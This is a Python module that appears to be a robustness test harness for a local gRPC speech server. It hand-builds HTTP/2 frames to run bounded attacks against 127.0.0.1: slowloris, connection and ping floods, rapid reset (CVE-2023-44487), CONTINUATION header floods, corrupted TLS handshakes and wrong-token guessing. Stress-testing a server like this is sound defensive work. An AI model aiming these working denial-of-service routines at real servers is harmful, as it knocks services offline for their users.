"""What bad clients do to the port, in bounded numbers: bytes written by hand, because a client library would not.

Each attack returns when it is over, with what it saw. What the server should have done is left to those who call.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import ssl
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from typing import Any

from hearken import AsyncClient, AuthenticationFailed, ConnectionFailed

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_ACK, _END_HEADERS = 0x1, 0x4
_CANCEL = 8
_MAX_FRAME_BYTES = 16_384
METHOD = b"/hearken.v1.Speech/StreamingRecognize"
OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
"""Otherwise gRPC lets all clients of a process, good and bad, use the same one."""

_CLOSED_S = 20.0
_GUESSES_AT_A_TIME = 200


@dataclass(frozen=True)
class Seen:
    """begun: connections, frames or calls before it was over, or the server cut it off. refused: those of them that it
    did not take. left_open: connections that it still held when the attack had waited long enough.
    """

    begun: int
    refused: int = 0
    left_open: int = 0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _headers(token: str = "") -> bytes:
    """A header block, in literals (RFC 7541): POST, http, path, authority, content-type, te, perhaps authorization."""

    def text(value: bytes) -> bytes:
        return bytes([len(value)]) + value

    return (
        b"\x83\x86"
        + b"\x04" + text(METHOD)
        + b"\x01" + text(b"localhost")
        + b"\x0f\x10" + text(b"application/grpc")
        + b"\x00" + text(b"te") + text(b"trailers")
        + (b"\x0f\x08" + text(f"Bearer {token}".encode()) if token else b"")
    )  # fmt: skip


@contextlib.asynccontextmanager
async def _connected(port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _until_closed(reader: asyncio.StreamReader) -> None:
    """Reads until the server closes the connection. TimeoutError: it does not."""
    async with asyncio.timeout(_CLOSED_S):
        with contextlib.suppress(ConnectionError):
            while await reader.read(65536):
                pass


async def _send(writer: asyncio.StreamWriter, data: bytes) -> bool:
    """Whether the connection still takes bytes."""
    try:
        writer.write(data)
        await writer.drain()
    except ConnectionError:
        return False
    return not writer.is_closing()


async def _many(count: int, one: Callable[[int], Awaitable[None]], at_a_time: int = 50) -> Seen:
    """one: a connection; it raises ConnectionError if it is not taken, TimeoutError if it is left open."""
    places = asyncio.Semaphore(at_a_time)
    refused = left_open = 0

    async def placed(number: int) -> None:
        nonlocal refused, left_open
        async with places:
            try:
                await one(number)
            except ConnectionError:
                refused += 1
            except TimeoutError:
                left_open += 1

    await asyncio.gather(*map(placed, range(count)))
    return Seen(count, refused, left_open)


async def random_bytes(port: int, count: int = 50) -> Seen:
    """Connections that speak no protocol at all; some begin well."""
    chance = random.Random(0)
    openings = [b"", _PREFACE, _PREFACE + _frame(_SETTINGS, 0, 0), b"\x16\x03\x01\x02\x00\x01", b"GET / HTTP/1.1\r\n"]

    async def one(number: int) -> None:
        async with _connected(port) as (reader, writer):
            await _send(writer, openings[number % len(openings)] + chance.randbytes(chance.randint(1, 4096)))
            await _until_closed(reader)

    return await _many(count, one)


async def corrupt_tls(port: int, count: int = 30) -> Seen:
    """TLS handshakes with a flipped byte, or that break off."""
    hello = _client_hello()
    chance = random.Random(0)

    async def one(number: int) -> None:
        async with _connected(port) as (reader, writer):
            at = chance.randrange(len(hello))
            damaged = hello[:at] + bytes([hello[at] ^ 0x55]) + hello[at + 1 :]
            await _send(writer, hello[:at] if number % 2 else damaged + chance.randbytes(64))
            await _until_closed(reader)

    return await _many(count, one)


def _client_hello() -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return outgoing.read()


async def slow_loris(port: int, count: int = 20, byte_every_s: float = 0.2) -> Seen:
    """Connections that send their first bytes ever so slowly; every other one begins a request and goes on so."""
    opening = _PREFACE + _frame(_SETTINGS, 0, 0)
    request = _frame(_HEADERS, _END_HEADERS, 1, _headers())

    async def one(number: int) -> None:
        async with _connected(port) as (reader, writer):
            closed = asyncio.create_task(_until_closed(reader))
            slow = opening + request
            if number % 2:
                await _send(writer, opening)
                slow = request[:-1] + bytes(1000)
            for byte in slow:
                await asyncio.sleep(byte_every_s)
                if closed.done() or not await _send(writer, bytes([byte])):
                    break
            await closed

    return await _many(count, one, at_a_time=count)


async def connect_flood(port: int, count: int = 1000, a_second: float = 5000) -> Seen:
    """Connections that are opened and dropped, as fast as this machine can, at most so many a second."""
    began_s = time.monotonic()

    async def one(number: int) -> None:
        await asyncio.sleep(max(0.0, began_s + number / a_second - time.monotonic()))
        async with _connected(port):
            pass

    return await _many(count, one, at_a_time=200)


async def rapid_reset(port: int, count: int = 5000, *, obeys: bool = False, pause_s: float = 0.0) -> Seen:
    """Requests that are cancelled as soon as they are made (CVE-2023-44487).

    obeys: confirms the server's settings. Who does not may make as many requests as one connection may have at a time.
    pause_s: between two of them.
    """
    block = _headers()
    begun = 0
    async with _connected(port) as (reader, writer):
        await _send(writer, _PREFACE + _frame(_SETTINGS, 0, 0))
        if obeys:
            await reader.read(65536)
            await _send(writer, _frame(_SETTINGS, _ACK, 0))
        closed = asyncio.create_task(_until_closed(reader))
        for number in range(count):
            stream = 2 * number + 1
            begun += 1
            if not await _send(
                writer,
                _frame(_HEADERS, _END_HEADERS, stream, block)
                + _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL)),
            ):
                break
            if pause_s:
                await asyncio.sleep(pause_s)
        if not writer.is_closing():
            writer.write_eof()
        await closed
    return Seen(begun)


async def ping_flood(port: int, count: int = 10_000) -> Seen:
    """Pings without a pause. gRPC may say good-bye to them early, or take them all."""
    begun = 0
    async with _connected(port) as (reader, writer):
        closed = asyncio.create_task(_until_closed(reader))
        await _send(writer, _PREFACE + _frame(_SETTINGS, 0, 0))
        while begun < count and not closed.done() and await _send(writer, _frame(_PING, 0, 0, bytes(8)) * 10):
            begun += 10
            await asyncio.sleep(0)
        await closed
    return Seen(begun)


async def endless_header(port: int, frames: int = 2000) -> Seen:
    """A request whose headers never end (the CONTINUATION flood)."""
    begun = 0
    more = b"\x00" + bytes([6]) + b"x-more" + bytes([100]) + b"y" * 100
    async with _connected(port) as (reader, writer):
        closed = asyncio.create_task(_until_closed(reader))
        await _send(writer, _PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, 0, 1, _headers()))
        while begun < frames and not closed.done() and await _send(writer, _frame(_CONTINUATION, 0, 1, more * 10)):
            begun += 1
            await asyncio.sleep(0)
        await closed
    return Seen(begun)


async def half_open(port: int, messages: list[bytes], token: str = "") -> Seen:
    """A stream whose client vanishes without a word: the connection stays, and nobody answers on it.

    messages: the request messages that it sends before.
    """
    async with _connected(port) as (reader, writer):
        await _send(writer, _PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, _END_HEADERS, 1, _headers(token)))
        for message in messages:
            data = b"\x00" + struct.pack(">I", len(message)) + message
            for at in range(0, len(data), _MAX_FRAME_BYTES):
                await _send(writer, _frame(_DATA, 0, 1, data[at : at + _MAX_FRAME_BYTES]))
        await _until_closed(reader)
    return Seen(1)


async def wrong_tokens(
    address: str,
    count: int,
    a_second: float,
    *,
    connections: int = 8,
    patience_s: float = 60.0,
    **connection: Any,
) -> Seen:
    """Calls with tokens that nobody has. patience_s: how long answers are waited for after the last call's time.

    Of each connection so many calls wait for an answer at a time; where the server is slow, calls are late or not made.
    """
    began_s = time.monotonic()
    begun = refused = 0

    async def guess(number: int, client: AsyncClient, places: asyncio.Semaphore) -> None:
        nonlocal begun, refused
        await asyncio.sleep(max(0.0, began_s + number / a_second - time.monotonic()))
        async with places:
            begun += 1
            try:
                await client.models(timeout_s=None)
            except (AuthenticationFailed, ConnectionFailed):  # also where the connection has too many calls
                refused += 1

    async with contextlib.AsyncExitStack() as stack:
        clients = [
            await stack.enter_async_context(
                AsyncClient(
                    address,
                    token=f"hearken_{number:043}",
                    reconnect=None,
                    channel_options=OWN_CONNECTION,
                    **connection,
                )
            )
            for number in range(connections)
        ]
        places = [asyncio.Semaphore(_GUESSES_AT_A_TIME) for _ in clients]
        guesses = [
            asyncio.create_task(guess(number, clients[number % connections], places[number % connections]))
            for number in range(count)
        ]
        _, late = await asyncio.wait(guesses, timeout=count / a_second + patience_s)
        for task in late:
            task.cancel()
        await asyncio.gather(*late, return_exceptions=True)
    return Seen(begun, refused)
